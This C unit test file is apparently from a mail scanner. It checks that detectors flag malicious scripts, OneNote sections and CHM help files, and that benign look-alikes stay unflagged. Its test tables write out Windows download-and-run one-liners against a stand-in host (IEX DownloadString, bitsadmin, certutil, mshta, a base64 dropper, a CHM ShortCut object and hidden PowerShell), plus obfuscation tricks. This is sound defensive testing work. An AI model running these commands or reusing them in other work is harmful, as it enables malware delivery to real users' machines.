/*
 * check_script.c - scripts, OneNote and CHM (scanners/lure/script*.c, embedded.c)
 *
 * Three kinds of test. Scripts written here, one decision each, handed to
 * lure_script_check() as an attachment of a report built by hand (no
 * engine): the download-and-run forms and the obfuscation signs, each
 * beside a benign script that looks like it (the line: a script that
 * fetches a file and does not run it is no downloader). OneNote sections
 * and CHM files the same way, as a part with members where the walk would
 * record them. And the fixtures of tests/fixtures/lures_script.py that the
 * manifest cannot hold: the benign scripts and the benign help file, held
 * by their names alone (attach.script, attach.compiled_help), must carry
 * no lure.* finding; the lures' evidence names what a mail admin needs.
 */
#include <string.h>

#include "checks.h"
#include "helpers.h"
#include "moat/lure.h"
#include "moat/sniff.h"

#define LURES_DIR	BUILD_DIR "/fixtures/lures"	/* tests/fixtures/build.sh, run by make unit */

static struct moat_conf *conf;	/* the defaults, [av] on moat's own signatures */

/* one_part - a report holding one attachment NAME with the LEN bytes at DATA (copied) */
static struct moat_report *
one_part(const char *name, const void *data, gsize len, struct moat_part **out)
{
	struct moat_report *rep = report_new();
	g_autoptr(GPtrArray) path = g_ptr_array_new();
	struct moat_part *p;

	g_ptr_array_add(path, (char *)name);
	p = report_part_new(rep, path);
	p->filename = g_strdup(name);
	p->is_attachment = TRUE;
	p->content = g_bytes_new(data, len);
	p->decoded_size = len;
	p->sniffed = sniff_type(data, MIN(len, SNIFF_HEAD_BYTES), NULL);
	if (out != NULL)
		*out = p;
	return rep;
}

/* member - a member NAME of container C holding the LEN bytes at DATA */
static struct moat_part *
member(struct moat_report *rep, struct moat_part *c, const char *name, const void *data, gsize len)
{
	struct moat_part *m = report_member_new(rep, c, name);

	m->is_attachment = TRUE;
	m->content = g_bytes_new(data, len);
	m->decoded_size = len;
	m->sniffed = sniff_type(data, MIN(len, SNIFF_HEAD_BYTES), NULL);
	return m;
}

/* has_lure - the first lure.* finding of REP, or NULL */
static const struct moat_finding *
has_lure(const struct moat_report *rep)
{
	for (guint i = 0; i < rep->findings->len; i++) {
		const struct moat_finding *f = rep->findings->pdata[i];

		if (g_str_has_prefix(f->id, "lure."))
			return f;
	}
	return NULL;
}

/* evidence_has - finding ID of REP exists and its evidence holds each NULL-ended text */
static void
evidence_has(const struct moat_report *rep, const char *id, ...)
{
	const struct moat_finding *f = t_finding(rep, id);
	const char *text;
	va_list ap;

	va_start(ap, id);
	while ((text = va_arg(ap, const char *)) != NULL)
		ck_assert_msg(strstr(f->evidence, text) != NULL, "%s: no \"%s\" in: %s", id, text,
		    f->evidence);
	va_end(ap);
}

/* Scripts ----------------------------------------------------------------------------- */

/* What one script should give: a downloader, obfuscation, neither. */
struct script_case {
	const char *name;
	const char *text;
	gboolean downloader, obfuscated;
	const char *evidence;	/* a piece of the first finding's evidence, or NULL */
};

static const struct script_case script_cases[] = {
	/* download and run, one form each */
	{ "a.ps1", "IeX ((New-Object Net.WebClient).DownloadString('http://example.invalid/a'))\n",
	    TRUE, FALSE, "IEX" },
	{ "a.ps1", "$x = (New-Object Net.WebClient).('Down'+'load'+'String')('http://example.invalid/a')\n"
	    "iex $x\n", TRUE, FALSE, "IEX" },
	{ "a.ps1", "(New-Object System.Net.WebClient).DownloadFile('http://example.invalid/a.exe', "
	    "\"$env:APPDATA\\a.exe\")\n& \"$env:APPDATA\\a.exe\"\n", TRUE, FALSE, "a.exe" },
	{ "a.bat", "@echo off\nbitsadmin /transfer j /download /priority high "
	    "http://example.invalid/a.exe %APPDATA%\\a.exe\nstart %APPDATA%\\a.exe\n", TRUE, FALSE,
	    "bitsadmin" },
	{ "a.bat", "@echo off\nc^u^r^l -o %TEMP%\\b.exe http://example.invalid/b.exe & %TEMP%\\b.exe\n",
	    TRUE, FALSE, "b.exe" },
	{ "a.cmd", "wget http://example.invalid/c.exe\r\ncall c.exe\r\n", TRUE, FALSE, "c.exe" },
	{ "a.vbs", "Set a = CreateObject(\"Shell.Application\")\n"
	    "a.ShellExecute \"cmd\", \"/c curl http://example.invalid/d -o d.exe && d.exe\", \"\", \"open\", 0\n",
	    TRUE, FALSE, "URL" },
	{ "a.js", "new ActiveXObject('WScript.Shell').Run('msiexec /q /i http://example.invalid/e.msi');\n",
	    TRUE, FALSE, "msiexec" },
	{ "a.bat", "mshta.exe vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\":close\")\n",
	    TRUE, FALSE, "inline script" },
	{ "a.cmd", "certutil.exe -urlcache -f http://example.invalid/f.txt f.txt\n", TRUE, FALSE, "certutil" },
	{ "a.js", "var w = new ActiveXObject(\"WinHttp.WinHttpRequest.5.1\"); w.Open(\"GET\", u, false);\n"
	    "var s = new ActiveXObject(\"ADODB.Stream\"); s.SaveToFile(p, 2);\n", TRUE, FALSE, "ADODB" },
	/* a dropper: a program carried as base64 and decoded */
	{ "a.ps1", "$b = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW"
	    "4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAATAECAAAAAAAAAAAAAAAAAOAAAgELAQAAAAIAAAACAAAAAAAAABAAAA"
	    "AQAAAAIAAAAABAAAAQAAAAAgAABAAAAAAAAAAEAAAAAAAAAAAwAAAAAgAAAAAAAAIAAAQAAAEAAAEAAAAAAQAAA=')\n"
	    "[IO.File]::WriteAllBytes(\"$env:TEMP\\x.exe\", $b); saps \"$env:TEMP\\x.exe\"\n",
	    TRUE, TRUE, "dropper" },
	/* what looks like it and is not */
	{ "b.ps1", "Invoke-WebRequest -Uri https://intranet.example.com/r.csv -OutFile r.csv\n"
	    "$rows = Import-Csv r.csv\nStart-Process notepad.exe\n", FALSE, FALSE, NULL },
	{ "b.bat", "@echo off\ncurl -L -o deps.zip https://downloads.example.com/deps.zip\n"
	    "tar -xf deps.zip\ncall build.cmd\n", FALSE, FALSE, NULL },
	{ "b.vbs", "CreateObject(\"WScript.Shell\").Run \"https://intranet.example.com/\", 1\n",
	    FALSE, FALSE, NULL },
	{ "b.bat", "@echo off\nstart iexplore http://intranet.example.com/\n", FALSE, FALSE, NULL },
	{ "b.cmd", "certutil -urlcache * delete\n", FALSE, FALSE, NULL },
	{ "b.bat", "powershell -c \"iwr -OutFile tool.zip https://downloads.example.com/tool.zip\"\n",
	    FALSE, FALSE, NULL },
	{ "b.bat", "set D=%date:~-4,4%%date:~-7,2%%date:~-10,2%\nxcopy /s src backup\\%D%\\\n",
	    FALSE, FALSE, NULL },
	{ "b.js", "var s = 'a' + b + 'c'; var t = x ^ y ^ z; // don't\nvar u = \"+\" + \"&\";\n",
	    FALSE, FALSE, NULL },
	/* obfuscation */
	{ "c.vbs", "Execute(StrReverse(\")\"\"cexe.c/dilavni.elpmaxe//:ptth\"\"(nuR.)\"\"llehS.tpircSW\"\"(tcejbOetaerC\"))\n",
	    FALSE, TRUE, "reversed URL" },
	{ "c.js", "eval(unescape('%76%61%72%20%78%3d%31'));\n", FALSE, TRUE, "decodes" },
	{ "c.ps1", "&(\"{0}{1}\" -f 'I','EX') ((\"{1}{0}{2}\" -f 'Net.','New-Object ','WebClient')) "
	    "\"{2}{0}{1}\" -f 'a','b','c' \"{1}{0}\" -f 'd','e' \"{0}{2}{1}\" -f 'f','g','h'\n",
	    FALSE, TRUE, "format strings" },
	{ "c.ps1", "I`n`V`o`K`e-`E`x`p`R`e`s`s`i`o`N $c\n", FALSE, TRUE, "backticks" },
};

START_TEST(test_script_case)
{
	const struct script_case *c = &script_cases[_i];
	struct moat_report *rep = one_part(c->name, c->text, strlen(c->text), NULL);
	g_autofree char *got = NULL;
	const struct moat_finding *d, *o;

	lure_script_check(rep, conf);
	got = t_ids_of(rep);
	d = report_has_finding(rep, "lure.script_downloader");
	o = report_has_finding(rep, "lure.script_obfuscated");
	ck_assert_msg((d != NULL) == c->downloader, "case %d (%s): downloader %s, found:%s", _i, c->name,
	    c->downloader ? "missing" : "unexpected", got);
	ck_assert_msg((o != NULL) == c->obfuscated, "case %d (%s): obfuscation %s, found:%s", _i, c->name,
	    c->obfuscated ? "missing" : "unexpected", got);
	if (c->evidence != NULL) {
		const struct moat_finding *f = d != NULL ? d : o;

		ck_assert_msg(strstr(f->evidence, c->evidence) != NULL, "case %d: no \"%s\" in: %s", _i,
		    c->evidence, f->evidence);
	}
	report_free(rep);
}
END_TEST

/* utf16 - TEXT as UTF-16 (BIG: big-endian), with a BOM when BOM (caller g_byte_array_unref()s) */
static GByteArray *
utf16(const char *text, gboolean big, gboolean bom)
{
	GByteArray *b = g_byte_array_new();

	if (bom)
		g_byte_array_append(b, (const guint8 *)(big ? "\xfe\xff" : "\xff\xfe"), 2);
	for (const char *p = text; *p != '\0'; p++) {
		guint8 u[2] = { big ? 0 : (guint8)*p, big ? (guint8)*p : 0 };

		g_byte_array_append(b, u, 2);
	}
	return b;
}

/* PowerShell and .reg files are often UTF-16: with a BOM, big-endian, or with no BOM at all. */
START_TEST(test_script_utf16)
{
	static const char text[] = "# deploy\r\nIEX (New-Object Net.WebClient).DownloadString("
	    "'http://example.invalid/a')\r\n";
	const struct { gboolean big, bom; } forms[] = { { FALSE, TRUE }, { TRUE, TRUE }, { FALSE, FALSE } };

	for (gsize i = 0; i < G_N_ELEMENTS(forms); i++) {
		g_autoptr(GByteArray) b = utf16(text, forms[i].big, forms[i].bom);
		struct moat_report *rep = one_part("run.ps1", b->data, b->len, NULL);

		lure_script_check(rep, conf);
		evidence_has(rep, "lure.script_downloader", "DownloadString('http://example.invalid/a')", NULL);
		report_free(rep);
	}
}
END_TEST

/* Padding in the middle does not hide a download at the end, and costs a bounded read. */
START_TEST(test_script_padded)
{
	GString *s = g_string_new("@echo off\r\n");
	struct moat_report *rep;

	while (s->len < (3u << 20))
		g_string_append(s, "rem Lorem ipsum dolor sit amet, consectetur adipiscing elit\r\n");
	g_string_append(s, "curl -o %TEMP%\\p.exe http://example.invalid/p.exe\r\nstart %TEMP%\\p.exe\r\n");
	rep = one_part("invoice.bat", s->str, s->len, NULL);
	lure_script_check(rep, conf);
	evidence_has(rep, "lure.script_downloader", "p.exe", NULL);
	report_free(rep);
	g_string_free(s, TRUE);
}
END_TEST

/* Two weak signs make obfuscation, one does not; a minified line is not a sign in JavaScript. */
START_TEST(test_script_weak_signs)
{
	GString *s = g_string_new("var r = s.split('').reverse().join('');\n");
	struct moat_report *rep;

	g_string_append(s, "var t = '");
	for (int i = 0; i < 250; i++)
		g_string_append(s, "\\x41");
	g_string_append(s, "';\n");
	rep = one_part("lib.js", s->str, s->len, NULL);
	lure_script_check(rep, conf);
	evidence_has(rep, "lure.script_obfuscated", "string reversal", "250 \\x escapes", NULL);
	report_free(rep);

	g_string_assign(s, "var r = s.split('').reverse().join('');\n");
	for (int i = 0; i < 2000; i++)
		g_string_append_printf(s, "a%d=b%d*(c+%d);", i, i, i);
	rep = one_part("lib.min.js", s->str, s->len, NULL);
	lure_script_check(rep, conf);
	ck_assert_ptr_null(has_lure(rep));
	report_free(rep);

	/* the same long line in a batch file is a sign, with the reversal */
	g_string_prepend(s, "@echo off\nrem ");
	rep = one_part("x.bat", s->str, s->len, NULL);
	lure_script_check(rep, conf);
	evidence_has(rep, "lure.script_obfuscated", "a line of", NULL);
	report_free(rep);
	g_string_free(s, TRUE);
}
END_TEST

/* A jar, an empty script, a nameless body: nothing read, nothing found. */
START_TEST(test_script_not_text)
{
	static const char jar[] = "PK\3\4\24\0\10\0\10\0 META-INF/MANIFEST.MF iex DownloadString";
	static const char hta[] = "<HTA:APPLICATION>\n<script>new ActiveXObject('WScript.Shell')"
	    ".Run('mshta http://example.invalid/a.hta')</script>\n";
	struct moat_part *p;
	struct moat_report *rep = one_part("tool.jar", jar, sizeof(jar) - 1, NULL);

	lure_script_check(rep, conf);
	ck_assert_ptr_null(has_lure(rep));
	report_free(rep);
	rep = one_part("empty.ps1", "", 0, NULL);
	lure_script_check(rep, conf);
	ck_assert_ptr_null(has_lure(rep));
	report_free(rep);
	/* HTA bytes under another name are read as an HTA; the same as a mail body are not */
	rep = one_part("invoice.txt", hta, sizeof(hta) - 1, &p);
	lure_script_check(rep, conf);
	evidence_has(rep, "lure.script_downloader", "mshta", NULL);
	report_free(rep);
	rep = one_part("body", hta, sizeof(hta) - 1, &p);
	p->is_attachment = FALSE;
	lure_script_check(rep, conf);
	ck_assert_ptr_null(has_lure(rep));
	report_free(rep);
}
END_TEST

START_TEST(test_script_language)
{
	static const struct { const char *text, *lang; } cases[] = {
		{ "<html><head><HTA:APPLICATION id=a></head></html>", "hta" },
		{ "<html><script language=VBScript>CreateObject(\"WScript.Shell\")</script></html>", "hta" },
		{ "<html><body><script>document.title='x'</script></body></html>", NULL },
		{ "<job><script language=\"JScript\">WScript.Echo(1)</script></job>", "wsf" },
		{ "@echo off\r\nstart calc\r\n", "batch" },
		{ "start \"\" %TEMP%\\a.exe\r\n", "batch" },
		{ "Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\n", "vbscript" },
		{ "var s = new ActiveXObject(\"WScript.Shell\");\n", "jscript" },
		{ "$p = $env:TEMP\nNew-Object Net.WebClient\n", "powershell" },
		{ "Dear Bob,\nthe minutes are attached.\nAlice\n", NULL },
		{ "%PDF-1.4 binary\0\0\0", NULL },
	};

	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		const char *got = lure_script_language((const guint8 *)cases[i].text, strlen(cases[i].text));

		ck_assert_msg(g_strcmp0(got, cases[i].lang) == 0, "case %zu: %s, want %s", i,
		    got != NULL ? got : "NULL", cases[i].lang != NULL ? cases[i].lang : "NULL");
	}
}
END_TEST

/* OneNote ------------------------------------------------------------------------------- */

static const guint8 one_magic[16] = {
	0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3,
};
static const guint8 one_blob[16] = {
	0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45, 0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e, 0xac,
};

/* one_add - a FileDataStoreObject of the LEN bytes at DATA, declaring CB bytes, after NAME in UTF-16LE */
static void
one_add(GByteArray *one, const char *name, const void *data, gsize len, guint64 cb)
{
	guint8 head[20] = { 0 };
	g_autoptr(GByteArray) n = utf16(name, FALSE, FALSE);
	guint32 nlen = n->len;

	g_byte_array_append(one, (const guint8 *)&nlen, 4);
	g_byte_array_append(one, n->data, n->len);
	g_byte_array_append(one, one_blob, 16);
	for (int i = 0; i < 8; i++)
		head[i] = (guint8)(cb >> (8 * i));
	g_byte_array_append(one, head, 20);
	g_byte_array_append(one, data, (guint)len);
}

static GByteArray *
one_new(void)
{
	GByteArray *one = g_byte_array_new();
	guint8 zero[1008] = { 0 };

	g_byte_array_append(one, one_magic, 16);
	g_byte_array_append(one, zero, sizeof(zero));
	return one;
}

/* A DOS header (e_lfanew past the end: "mz") and a PNG signature: enough for sniff_type(). */
static const char exe_bytes[] = "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0@\0\0\0\0\0\0\0"
    "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x80\0\0\0 a program";
static const char png_bytes[] = "\x89PNG\r\n\x1a\n......";
static const char bat_text[] = "@echo off\r\ncurl -o %TEMP%\\o.exe http://example.invalid/o.exe\r\n"
    "start %TEMP%\\o.exe\r\n";
static const char pdf_text[] = "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n";

/* A batch file in the notebook's file store is a payload, named, and its download is seen. */
START_TEST(test_onenote_batch)
{
	g_autoptr(GByteArray) one = one_new();
	struct moat_report *rep;

	one_add(one, "picture.png", png_bytes, sizeof(png_bytes) - 1, sizeof(png_bytes) - 1);
	one_add(one, "Open.bat", bat_text, sizeof(bat_text) - 1, sizeof(bat_text) - 1);
	rep = one_part("Notes.one", one->data, one->len, NULL);
	lure_embedded_check(rep, conf);
	evidence_has(rep, "lure.onenote_payload", "batch", "Open.bat", NULL);
	evidence_has(rep, "lure.script_downloader", "embedded batch", "o.exe", NULL);
	ck_assert_ptr_null(strstr(t_finding(rep, "lure.onenote_payload")->evidence, "picture.png"));
	report_free(rep);
}
END_TEST

/* A program the walk recorded is named once, from the members. */
START_TEST(test_onenote_member)
{
	g_autoptr(GByteArray) one = one_new();
	struct moat_part *p;
	struct moat_report *rep;

	one_add(one, "View.exe", exe_bytes, sizeof(exe_bytes) - 1, sizeof(exe_bytes) - 1);
	rep = one_part("Notes.one", one->data, one->len, &p);
	member(rep, p, "(embedded pe)", exe_bytes, sizeof(exe_bytes) - 1);
	lure_embedded_check(rep, conf);
	evidence_has(rep, "lure.onenote_payload", "a program (", "View.exe", NULL);
	ck_assert_ptr_null(strstr(t_finding(rep, "lure.onenote_payload")->evidence, "KB"));
	report_free(rep);
}
END_TEST

/* Pictures, PDFs and notes are what notebooks hold; a name in a URL on a page is not a file's. */
START_TEST(test_onenote_benign)
{
	static const char note[] = "Bring the forms; the tool is at https://intranet.example.com/setup.exe\r\n";
	g_autoptr(GByteArray) one = one_new();
	struct moat_report *rep;

	one_add(one, "plan.png", png_bytes, sizeof(png_bytes) - 1, sizeof(png_bytes) - 1);
	one_add(one, "agenda.pdf", pdf_text, sizeof(pdf_text) - 1, sizeof(pdf_text) - 1);
	one_add(one, "notes.txt", note, sizeof(note) - 1, sizeof(note) - 1);
	rep = one_part("Project.one", one->data, one->len, NULL);
	lure_embedded_check(rep, conf);
	ck_assert_ptr_null(has_lure(rep));
	report_free(rep);
}
END_TEST

/* A length past the end reads what is there; a header cut short is no blob; no read past the end. */
START_TEST(test_onenote_truncated)
{
	g_autoptr(GByteArray) one = one_new();
	g_autoptr(GByteArray) cut = one_new();
	struct moat_report *rep;

	one_add(one, "Open.bat", bat_text, sizeof(bat_text) - 1, G_MAXUINT64);
	rep = one_part("Notes.one", one->data, one->len, NULL);
	lure_embedded_check(rep, conf);
	evidence_has(rep, "lure.onenote_payload", "batch", NULL);
	report_free(rep);

	g_byte_array_append(cut, one_blob, 16);
	g_byte_array_append(cut, (const guint8 *)"\x10\0\0", 3);
	rep = one_part("Notes.one", cut->data, cut->len, NULL);
	lure_embedded_check(rep, conf);
	ck_assert_ptr_null(has_lure(rep));
	report_free(rep);
}
END_TEST

/* CHM ------------------------------------------------------------------------------------ */

static const char chm_head[] = "ITSF\3\0\0\0`\0\0\0\1\0\0\0";

/* chm_with - a CHM part holding a page PAGE (and a program when EXE) */
static struct moat_report *
chm_with(const char *page, gboolean exe)
{
	struct moat_part *p;
	struct moat_report *rep = one_part("Help.chm", chm_head, sizeof(chm_head) - 1, &p);

	member(rep, p, "/index.htm", page, strlen(page));
	member(rep, p, "/logo.png", png_bytes, sizeof(png_bytes) - 1);
	if (exe)
		member(rep, p, "/bin/setup.exe", exe_bytes, sizeof(exe_bytes) - 1);
	return rep;
}

START_TEST(test_chm_shortcut)
{
	struct moat_report *rep = chm_with("<html><body><OBJECT id=x CLASSID=\"clsid:ADB880A6-D8FF-11CF-"
	    "9377-00AA003B7A11\"><PARAM name=\"Command\" value=\"ShortCut\"><PARAM name=\"Item1\" "
	    "value=\",hh.exe,-decompile C:\\Users\\Public x.chm\"></OBJECT><script>x.Click()</script>"
	    "</body></html>", FALSE);

	lure_embedded_check(rep, conf);
	evidence_has(rep, "lure.chm_payload", "index.htm", "ShortCut", "hh.exe,-decompile", NULL);
	report_free(rep);
}
END_TEST

START_TEST(test_chm_program)
{
	struct moat_report *rep = chm_with("<html><body><p>Install the tool.</p></body></html>", TRUE);

	lure_embedded_check(rep, conf);
	evidence_has(rep, "lure.chm_payload", "program 'setup.exe'", NULL);
	report_free(rep);
}
END_TEST

START_TEST(test_chm_wscript)
{
	struct moat_report *rep = chm_with("<html><script language=\"VBScript\">\nSet s = CreateObject("
	    "\"WScript.Shell\")\ns.Run \"powershell -w hidden -c iex(iwr http://example.invalid/a)\", 0\n"
	    "</script></html>", FALSE);

	lure_embedded_check(rep, conf);
	evidence_has(rep, "lure.chm_payload", "wscript.shell", NULL);
	evidence_has(rep, "lure.script_downloader", "help page", "IEX", NULL);
	ck_assert_ptr_nonnull(strstr(t_finding(rep, "lure.script_downloader")->path_display, "index.htm"));
	report_free(rep);
}
END_TEST

/* HHCtrl's Related Topics, keyword links and navigation script are what help files are made of. */
START_TEST(test_chm_benign)
{
	struct moat_report *rep = chm_with("<html><body><OBJECT classid=\"clsid:adb880a6-d8ff-11cf-9377-"
	    "00aa003b7a11\"><PARAM name=\"Command\" value=\"Related Topics\"><PARAM name=\"Item1\" "
	    "value=\"See also;more.htm\"></OBJECT><OBJECT classid=\"clsid:adb880a6-d8ff-11cf-9377-"
	    "00aa003b7a11\"><PARAM name=\"Command\" value=\"KLink\"></OBJECT><script>function nav(u) "
	    "{ window.location.href = u; }</script></body></html>", FALSE);

	lure_embedded_check(rep, conf);
	ck_assert_ptr_null(has_lure(rep));
	report_free(rep);
}
END_TEST

/* Fixture mails (tests/fixtures/lures_script.py) ---------------------------------------------- */

/* fixture_setup - an engine from conf/signatures; CONF otherwise the built-in defaults */
static void
fixture_setup(void)
{
	conf = t_av_conf();
}

static void
fixture_teardown(void)
{
	t_av_release(&conf);
}

static struct moat_report *
scan_fixture(const char *mail)
{
	g_autofree char *path = g_build_filename(LURES_DIR, mail, NULL);

	ck_assert_msg(g_file_test(path, G_FILE_TEST_IS_REGULAR), "%s missing: run "
	    "tests/fixtures/build.sh %s/fixtures", path, BUILD_DIR);
	return t_scan_file(path, conf);
}

/* The look-alikes outside the manifest: held by their names, with no lure.* reason. */
static const struct { const char *mail, *by_name; } benign_mails[] = {
	{ "mail-benign-login.bat.eml", "attach.script" },
	{ "mail-benign-build.bat.eml", "attach.script" },
	{ "mail-benign-library.js.eml", "attach.script" },
	{ "mail-benign-admin.ps1.eml", "attach.script" },
	{ "mail-benign-intranet.vbs.eml", "attach.script" },
	{ "mail-benign-tool.hta.eml", "attach.script" },
	{ "mail-benign-help.chm.eml", "attach.compiled_help" },
};

START_TEST(test_fixture_benign)
{
	struct moat_report *rep = scan_fixture(benign_mails[_i].mail);
	const struct moat_finding *f = has_lure(rep);

	t_finding(rep, benign_mails[_i].by_name);
	ck_assert_msg(f == NULL, "%s: unexpected %s at %s: %s", benign_mails[_i].mail,
	    f != NULL ? f->id : "", f != NULL ? f->path_display : "", f != NULL ? f->evidence : "");
	report_free(rep);
}
END_TEST

/* What the quarantine view shows: the file that is fetched and how it is run. */
START_TEST(test_fixture_evidence)
{
	struct moat_report *rep = scan_fixture("mail-script-curl.bat.eml");

	evidence_has(rep, "lure.script_downloader", "curl fetches svchelper.exe", "start", NULL);
	report_free(rep);
	rep = scan_fixture("mail-script-caret.bat.eml");
	evidence_has(rep, "lure.script_downloader", "base64 blob decodes to", "DownloadString", NULL);
	evidence_has(rep, "lure.script_obfuscated", "carets", "-enc", NULL);
	report_free(rep);
	rep = scan_fixture("mail-one-hta.one.eml");
	evidence_has(rep, "lure.onenote_payload", "hta", "open.hta", NULL);
	report_free(rep);
	rep = scan_fixture("mail-chm-shortcut.chm.eml");
	evidence_has(rep, "lure.chm_payload", "ShortCut", "cmd.exe", NULL);
	report_free(rep);
}
END_TEST

Suite *
script_suite(void)
{
	Suite *s = suite_create("script");
	TCase *tc = tcase_create("script");
	TCase *emb = tcase_create("embedded");
	TCase *fx = tcase_create("fixtures");

	tcase_add_loop_test(tc, test_script_case, 0, G_N_ELEMENTS(script_cases));
	tcase_add_test(tc, test_script_utf16);
	tcase_add_test(tc, test_script_padded);
	tcase_add_test(tc, test_script_weak_signs);
	tcase_add_test(tc, test_script_not_text);
	tcase_add_test(tc, test_script_language);
	tcase_set_timeout(tc, 30);	/* the padded script under a sanitizer */
	suite_add_tcase(s, tc);

	tcase_add_test(emb, test_onenote_batch);
	tcase_add_test(emb, test_onenote_member);
	tcase_add_test(emb, test_onenote_benign);
	tcase_add_test(emb, test_onenote_truncated);
	tcase_add_test(emb, test_chm_shortcut);
	tcase_add_test(emb, test_chm_program);
	tcase_add_test(emb, test_chm_wscript);
	tcase_add_test(emb, test_chm_benign);
	suite_add_tcase(s, emb);

	tcase_add_unchecked_fixture(fx, fixture_setup, fixture_teardown);
	tcase_set_timeout(fx, 60);
	tcase_add_loop_test(fx, test_fixture_benign, 0, G_N_ELEMENTS(benign_mails));
	tcase_add_test(fx, test_fixture_evidence);
	suite_add_tcase(s, fx);
	return s;
}
